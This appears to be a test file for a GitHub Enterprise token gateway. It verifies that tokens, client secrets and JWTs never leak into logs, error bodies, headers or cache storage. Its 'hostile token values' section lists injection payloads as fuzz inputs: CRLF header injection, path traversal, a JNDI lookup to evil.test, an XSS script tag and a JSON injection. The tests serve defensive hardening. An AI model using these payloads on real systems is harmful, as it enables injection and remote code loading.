/**
 * Secrets stay where they belong. Across whole runs of operations, failures included, no log
 * record, error body or response header carries a GitHub token, a client secret, the Basic
 * credential, the cache pepper or a caller JWT; KV holds no raw token; a newly minted token is
 * in its reset/scoped answer and nowhere else. Hostile token values (fast-check) are refused or
 * answered 404, never echoed, and never turn a legacy path-style URL into another GHES path.
 */
import { env } from 'cloudflare:test';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { StrictKv } from '../helpers/strict-kv';
import {
  createTestGateway,
  secretsOf,
  seedTokens,
  type TestGateway,
  type TestGatewayOptions,
} from '../helpers/gateway';

const OAUTH = 'demo-oauth';
const GH_APP = 'demo-github-app';
type Op = 'token/check' | 'token/reset' | 'token/scoped' | 'token/delete' | 'grant/delete';
const path = (app: string, op: Op) => `/v1/apps/${app}/${op}`;

/** Short timeouts so the timeout cases in a run cost ~100 ms each. */
const FAST_TIMEOUTS = { GHES_TIMEOUT_MS: '100', GHES_DEADLINE_MS: '300' };

interface Exchange {
  label: string;
  status: number;
  headers: [string, string][];
  body: string;
}

/**
 * Drives a gateway and keeps every answer and every credential it handled, so a test can scan
 * all of them at the end.
 */
class Run {
  readonly exchanges: Exchange[] = [];
  /** GitHub tokens: seeded, minted in the emulator, and minted by reset/scoped. */
  readonly tokens = new Set<string>();
  /** Tokens minted through the gateway: allowed in exactly their own reset/scoped answer. */
  readonly minted = new Set<string>();
  readonly callerJwts = new Set<string>();

  constructor(readonly gw: TestGateway) {
    const seed = gw.emulator.seed;
    if (seed !== null) for (const t of Object.values(seed.tokens)) this.tokens.add(t);
  }

  mint(app: string, login: string): string {
    const { token } = this.gw.emulator.createToken({ app, login });
    this.tokens.add(token);
    return token;
  }

  async send(
    label: string,
    route: string,
    body: unknown,
    headers: Record<string, string> = {},
  ): Promise<Exchange> {
    const jwt = await this.gw.caller();
    this.callerJwts.add(jwt);
    const res = await this.gw.request(route, {
      method: 'POST',
      headers: { authorization: `Bearer ${jwt}`, 'content-type': 'application/json', ...headers },
      body: typeof body === 'string' ? body : JSON.stringify(body),
    });
    const exchange: Exchange = {
      label,
      status: res.status,
      headers: [...res.headers],
      body: await res.text(),
    };
    this.exchanges.push(exchange);
    if (res.status === 200 && (route.endsWith('/token/reset') || route.endsWith('/token/scoped'))) {
      const token = (JSON.parse(exchange.body) as { token: string }).token;
      this.tokens.add(token);
      this.minted.add(token);
    }
    return exchange;
  }

  /** Everything that must never appear outside its one allowed place. */
  forbidden(): string[] {
    return [...this.tokens, ...this.callerJwts, ...secretsOf(this.gw), ...basicHeaders(this.gw)];
  }
}

function basicHeaders(gw: TestGateway): string[] {
  return gw.apps.map((a) => `Basic ${btoa(`${a.client_id}:${a.client_secret}`)}`);
}

function leaks(haystack: string, needles: Iterable<string>): string[] {
  return [...needles].filter((n) => n.length > 0 && haystack.includes(n));
}

/** Asserts the whole run leaked nothing; returns how many log lines were scanned. */
function expectNoLeaks(run: Run): number {
  const forbidden = run.forbidden();
  for (const record of run.gw.logs) {
    const line = JSON.stringify(record);
    expect(leaks(line, forbidden), line).toEqual([]);
  }
  for (const ex of run.exchanges) {
    expect(leaks(JSON.stringify(ex.headers), forbidden), `${ex.label}: headers`).toEqual([]);
    const allowed = ex.status === 200 ? [...run.minted].filter((t) => ex.body.includes(t)) : [];
    // A reset/scoped answer carries exactly one token: its own new one.
    expect(allowed.length, `${ex.label}: body`).toBeLessThanOrEqual(1);
    const rest = forbidden.filter((f) => !allowed.includes(f));
    expect(leaks(ex.body, rest), `${ex.label}: body ${ex.body}`).toEqual([]);
    expect(ex.body, ex.label).not.toContain('hashed_token');
    const names = ex.headers.map(([k]) => k);
    expect(names, ex.label).not.toContain('access-control-allow-origin');
    expect(names, ex.label).not.toContain('set-cookie');
  }
  return run.gw.logs.length;
}

/** Every key and value in the KV namespace, as text. */
async function kvContents(kv: KVNamespace): Promise<{ key: string; value: string }[]> {
  const out: { key: string; value: string }[] = [];
  let cursor: string | undefined;
  do {
    const page: KVNamespaceListResult<unknown> = await kv.list(
      cursor === undefined ? {} : { cursor },
    );
    for (const k of page.keys)
      out.push({ key: k.name, value: (await kv.get(k.name, 'text')) ?? '' });
    cursor = page.list_complete ? undefined : page.cursor;
  } while (cursor !== undefined);
  return out;
}

/** A run of every operation, successes and failures, against a body-style or legacy gateway. */
async function fullRun(options: TestGatewayOptions): Promise<Run> {
  const gw = await createTestGateway({ ...options, vars: { ...FAST_TIMEOUTS, ...options.vars } });
  const run = new Run(gw);
  const seed = gw.emulator.seed;
  if (seed === null) throw new Error('demo seed expected');
  const t = seed.tokens;
  const spare = run.mint(OAUTH, 'octocat');
  const victim = run.mint(OAUTH, 'hubot');
  const grantee = run.mint(OAUTH, 'monalisa');

  await run.send('check', path(OAUTH, 'token/check'), { access_token: t.octocatOauth });
  await run.send('check (L1 hit)', path(OAUTH, 'token/check'), { access_token: t.octocatOauth });
  await run.send('check unknown', path(OAUTH, 'token/check'), {
    access_token: 'gho_unknownunknownunknownunknownunknown1',
  });
  await run.send('check other app', path(OAUTH, 'token/check'), {
    access_token: t.octocatGithubApp,
  });
  await run.send('check + unknown field', path(OAUTH, 'token/check'), {
    access_token: t.monalisaOauth,
    note: t.octocatOauth,
  });
  await run.send('check + space', path(OAUTH, 'token/check'), {
    access_token: `${t.monalisaOauth} `,
  });
  await run.send(
    'check wrong type',
    path(OAUTH, 'token/check'),
    `access_token=${t.monalisaOauth}`,
    { 'content-type': 'text/plain' },
  );
  await run.send(
    'check malformed',
    path(OAUTH, 'token/check'),
    `{"access_token":"${t.monalisaOauth}"`,
  );
  await run.send('check unknown app', path('nope', 'token/check'), {
    access_token: t.monalisaOauth,
  });

  gw.emulator.addFault({ status: 503, operation: 'check', times: 3 });
  gw.emulator.addFault({ status: 503, operation: 'legacy_check', times: 3 });
  await run.send('check 5xx', path(OAUTH, 'token/check'), { access_token: t.monalisaOauth });
  gw.emulator.addFault({ status: 429, retry_after: 1 });
  await run.send('check 429', path(OAUTH, 'token/check'), { access_token: spare });
  gw.emulator.clearFaults();
  gw.emulator.addFault({ hang: true, times: 1 });
  await run.send('check timeout', path(OAUTH, 'token/check'), { access_token: spare });

  const reset = await run.send('reset', path(OAUTH, 'token/reset'), {
    access_token: t.octocatOauth,
  });
  expect(reset.status).toBe(200);
  await run.send('reset unknown', path(OAUTH, 'token/reset'), { access_token: t.octocatOauth });
  gw.emulator.addFault({ commit_then_fail: true, status: 502, times: 1 });
  await run.send('reset commit-then-fail', path(OAUTH, 'token/reset'), { access_token: spare });

  const scoped = await run.send('scoped', path(GH_APP, 'token/scoped'), {
    access_token: t.octocatGithubApp,
    target: 'octocat',
    permissions: { contents: 'read' },
  });
  // Scoped tokens exist from GHES 3.0 on; older gateways refuse them (and that answer is scanned too).
  expect(scoped.status).toBe(gw.vars['GHES_VERSION'] === '2.19' ? 422 : 200);
  await run.send('scoped GHES 422', path(GH_APP, 'token/scoped'), {
    access_token: t.octocatGithubApp,
    target: 'ghost',
  });
  await run.send('scoped bad permission', path(GH_APP, 'token/scoped'), {
    access_token: t.octocatGithubApp,
    target: 'octocat',
    permissions: { root_access: 'admin' },
  });
  await run.send('scoped OAuth app', path(OAUTH, 'token/scoped'), {
    access_token: t.monalisaOauth,
    target: 'octocat',
  });

  await run.send('delete', path(OAUTH, 'token/delete'), { access_token: victim });
  await run.send('delete again', path(OAUTH, 'token/delete'), { access_token: victim });
  await run.send('check deleted', path(OAUTH, 'token/check'), { access_token: victim });
  gw.emulator.addFault({ status: 500 });
  await run.send('delete 500', path(OAUTH, 'token/delete'), { access_token: t.monalisaOauth });
  gw.emulator.clearFaults();
  const grant = await run.send('grant', path(OAUTH, 'grant/delete'), { access_token: grantee });
  expect(grant.status).toBe(204);
  await run.send('grant again', path(OAUTH, 'grant/delete'), { access_token: grantee });
  gw.emulator.addFault({ status: 403, secondary_rate_limit: true, retry_after: 1 });
  await run.send('grant secondary limit', path(GH_APP, 'grant/delete'), {
    access_token: t.monalisaGithubApp,
  });
  gw.emulator.clearFaults();
  return run;
}

describe('no secret or token outside its place', () => {
  it.each([
    ['GHES 3.22 (body style)', { version: '3.22' }],
    ['GHES 3.3 with legacy path-style calls', { version: '3.3', apiStyle: 'legacy' }],
    ['GHES 2.19 (legacy only)', { version: '2.19' }],
  ] as const)('%s: logs, error bodies and headers of a whole run', async (_name, options) => {
    const run = await fullRun(options);
    // The run really exercised failures and successes (else the scan proves little).
    const statuses = new Set(run.exchanges.map((e) => e.status));
    for (const s of [200, 204, 400, 404, 415, 422, 429, 502, 504])
      expect(statuses, `status ${s}`).toContain(s);
    expect(run.minted.size).toBeGreaterThanOrEqual(1);
    expect(run.gw.logs.some((r) => r.event === 'ghes.call_failed')).toBe(true);
    expect(expectNoLeaks(run)).toBeGreaterThan(run.exchanges.length);
  });

  it('legacy calls log the redacted path, never the token in it', async () => {
    const run = await fullRun({ version: '3.3', apiStyle: 'legacy' });
    const failed = run.gw.logs.filter((r) => r.event === 'ghes.call_failed');
    expect(failed.length).toBeGreaterThan(0);
    for (const r of failed)
      expect(String(r['path'])).toMatch(/^\/(tokens|grants)\/\{access_token\}$/);
    // The tokens really were in the URLs sent upstream.
    expect(
      run.gw.outbound.filter((o) => [...run.tokens].some((t) => o.url.includes(t))).length,
    ).toBeGreaterThan(5);
    expectNoLeaks(run);
  });

  it('a wrong client secret (GHES 401) and the right one stay out of logs and answers', async () => {
    const wrong = 'wrong-secret-7f3a9c1e5b2d4f6a8c0e';
    const gw = await createTestGateway({
      badCredentialsStatus: 401,
      vars: { DEMO_OAUTH_CLIENT_SECRET: wrong },
    });
    const run = new Run(gw);
    const seed = gw.emulator.seed;
    if (seed === null) throw new Error('demo seed expected');
    for (const op of ['token/check', 'token/reset', 'token/delete', 'grant/delete'] as const) {
      const ex = await run.send(op, path(OAUTH, op), { access_token: seed.tokens.octocatOauth });
      expect(ex.status).toBe(502);
    }
    const reasons = gw.logs.map((r) => JSON.stringify(r));
    // Operators learn which client's secret is wrong, not the secret.
    expect(
      reasons.some((l) => l.includes('check the app') && l.includes(gw.apps[0]?.client_id ?? '?')),
    ).toBe(true);
    const forbidden = [...run.forbidden(), wrong, btoa(`${gw.apps[0]?.client_id}:${wrong}`)];
    for (const line of reasons) expect(leaks(line, forbidden), line).toEqual([]);
    for (const ex of run.exchanges)
      expect(leaks(ex.body + JSON.stringify(ex.headers), forbidden)).toEqual([]);
  });

  it('KV holds no raw token and no secret, only keyed hashes and token-free answers', async () => {
    // StrictKv also refuses what production KV refuses (TTL under 60 s, oversized keys).
    const kv = new StrictKv(env.TOKEN_CACHE);
    const run = await fullRun({ version: '3.22', kv: kv.kv });
    await run.gw.settle();
    const stored = await kv.dump();
    const listed = await kvContents(env.TOKEN_CACHE);
    // Positive, negative and tombstone entries and a grant epoch were written by this run.
    expect(kv.puts.length).toBeGreaterThanOrEqual(4);
    expect(stored.length).toBeGreaterThanOrEqual(3);
    const forbidden = run.forbidden();
    for (const { key, value } of [...kv.puts, ...stored, ...listed]) {
      expect(leaks(key, forbidden), key).toEqual([]);
      expect(leaks(value, forbidden), key).toEqual([]);
      expect(value).not.toContain('hashed_token');
    }
    // The scan looked at the right data: real authorizations and a grant epoch were written.
    expect(kv.puts.some((e) => e.value.includes('"login":"octocat"'))).toBe(true);
    expect(kv.puts.some((e) => e.key.startsWith('v1:epoch:'))).toBe(true);
    expect(listed.length).toBeGreaterThanOrEqual(stored.length);
  });
});

describe('caller mistakes that put a token where it does not belong', () => {
  // A client that builds the body wrongly (a token as the key, a form body parsed as JSON …)
  // must not get the token back in a 422: error bodies end up in client logs and proxies.
  it.each(['token/check', 'token/reset', 'token/delete', 'grant/delete'] as const)(
    '%s: an unknown key that is a token is not echoed in the 422',
    async (op) => {
      const gw = await createTestGateway();
      const token = gw.emulator.createToken({ app: OAUTH, login: 'octocat' }).token;
      const res = await gw.post(path(OAUTH, op), { [token]: true });
      const body = await res.text();
      expect(res.status).toBe(422);
      expect(body).not.toContain(token);
      for (const r of gw.logs) expect(JSON.stringify(r)).not.toContain(token);
    },
  );

  it('a token sent as the scoped permission name is not echoed', async () => {
    const gw = await createTestGateway();
    const token = gw.emulator.createToken({ app: GH_APP, login: 'octocat' }).token;
    const res = await gw.post(path(GH_APP, 'token/scoped'), {
      access_token: token,
      target: 'octocat',
      permissions: { [token]: 'read' },
    });
    expect(res.status).toBe(422);
    expect(await res.text()).not.toContain(token);
  });
});

describe('a credential-shaped value where a name belongs is never echoed', () => {
  // Lower-case and hex shapes pass the name patterns (field names, app names), so only the
  // credential check (src/lib/secret-shaped.ts) keeps them out of the answer.
  const SHAPES: Array<[string, string]> = [
    ['a lower-case gho_ token', 'gho_' + 'a1b2c3d4e5'.repeat(3) + 'f6g7h8'],
    ['a 40-hex classic token', 'e72e16c7e42f292c6912e7710c838347ae178b4a'],
    ['a lower-case ghu_ token', 'ghu_' + 'q'.repeat(36)],
  ];

  it.each(SHAPES)('%s as an unknown JSON key', async (_name, secret) => {
    const gw = await createTestGateway();
    const res = await gw.post(path(OAUTH, 'token/check'), {
      access_token: seedTokens(gw).octocatOauth,
      [secret]: 1,
    });
    expect(res.status).toBe(422);
    const body = await res.text();
    expect(body).toContain('unknown field');
    expect(body).not.toContain(secret);
  });

  it.each(SHAPES)('%s as a scoped permission name', async (_name, secret) => {
    const gw = await createTestGateway();
    const token = gw.emulator.createToken({ app: GH_APP, login: 'octocat' }).token;
    const res = await gw.post(path(GH_APP, 'token/scoped'), {
      access_token: token,
      target: 'octocat',
      permissions: { [secret]: 'read' },
    });
    expect(res.status).toBe(422);
    expect(await res.text()).not.toContain(secret);
  });

  it.each(SHAPES.filter(([, s]) => /^[a-z0-9-]+$/.test(s)))(
    '%s as the app in the path (404 unknown-app)',
    async (_name, secret) => {
      const gw = await createTestGateway();
      const res = await gw.post(`/v1/apps/${secret}/token/check`, {
        access_token: seedTokens(gw).octocatOauth,
      });
      expect(res.status).toBe(404);
      const body = await res.text();
      expect(body).toContain('(withheld)');
      expect(body).not.toContain(secret);
      for (const r of gw.logs) expect(JSON.stringify(r)).not.toContain(secret);
    },
  );

  it.each(SHAPES.filter(([, s]) => /^[a-z0-9-]+$/.test(s)))(
    '%s as the app in the path of a caller limited to other apps (403)',
    async (_name, secret) => {
      const gw = await createTestGateway();
      const res = await gw.post(
        `/v1/apps/${secret}/token/check`,
        { access_token: seedTokens(gw).octocatOauth },
        'svc-readonly',
      );
      expect(res.status).toBe(403);
      expect(await res.text()).not.toContain(secret);
    },
  );
});

describe('hostile token values', () => {
  const hostile = fc.oneof(
    fc.string({ unit: 'binary', minLength: 1, maxLength: 300 }),
    fc.string({
      unit: fc.constantFrom(...'\r\n\t "\'\\<>%/.;:=&?#@\u0000\u2028{}[]$'.split('')),
      minLength: 1,
      maxLength: 40,
    }),
    fc.stringMatching(/^gh[opsur]_[A-Za-z0-9]{0,60}$/),
    fc.string({ minLength: 256, maxLength: 3000 }),
    fc.constantFrom(
      'gho_x\r\nX-Injected: 1',
      '../../grants/x',
      '..%2f..%2fgrant',
      '%2e%2e%2f%2e%2e',
      'gho_x?access_token=y',
      'gho_x#fragment',
      '${jndi:ldap://evil.test/a}',
      '<script>alert(1)</script>',
      'gho_\u0000null',
      'Bearer gho_x',
      '"},"admin":true,"x":{"',
    ),
  );

  /** A token long and distinctive enough that finding it in output means it was echoed. */
  const echoable = (t: string) => t.length >= 8 && t.trim().length >= 6;

  it.each([
    ['body style (3.22)', { version: '3.22' }],
    ['legacy path style (3.3)', { version: '3.3', apiStyle: 'legacy' }],
  ] as const)('%s: check answers 404 or 422 and never echoes the value', async (_name, options) => {
    const gw = await createTestGateway(options);
    const secrets = secretsOf(gw);
    await fc.assert(
      fc.asyncProperty(hostile, async (token) => {
        const logStart = gw.logs.length;
        const res = await gw.post(path(OAUTH, 'token/check'), { access_token: token });
        const body = await res.text();
        expect([404, 422]).toContain(res.status);
        expect(res.headers.get('content-type')).toBe('application/problem+json');
        const output = [
          body,
          JSON.stringify([...res.headers]),
          ...gw.logs.slice(logStart).map((r) => JSON.stringify(r)),
        ];
        for (const text of output) {
          if (echoable(token)) expect(text).not.toContain(token);
          expect(leaks(text, secrets)).toEqual([]);
        }
      }),
      { numRuns: 120 },
    );
  });

  // WHATWG URL parsing resolves `.` and `..` path segments (also `%2e`), so a legacy path built as
  // `/tokens/${encodeURIComponent(token)}` with token `..` is sent to `/applications/{client_id}/`.
  it.each(['token/check', 'token/reset', 'token/delete', 'grant/delete'] as const)(
    'legacy %s: a dot-segment token never sends the request to another GHES path',
    async (op) => {
      const gw = await createTestGateway({ version: '3.3', apiStyle: 'legacy' });
      const clientId = gw.apps.find((a) => a.name === OAUTH)?.client_id ?? '?';
      for (const token of ['.', '..']) {
        const res = await gw.post(path(OAUTH, op), { access_token: token });
        expect([404, 422]).toContain(res.status);
      }
      for (const { url } of gw.outbound) {
        expect(new URL(url).pathname).toMatch(
          new RegExp(`^/api/v3/applications/${clientId}/(tokens|grants)/[^/]+$`),
        );
      }
    },
  );
});
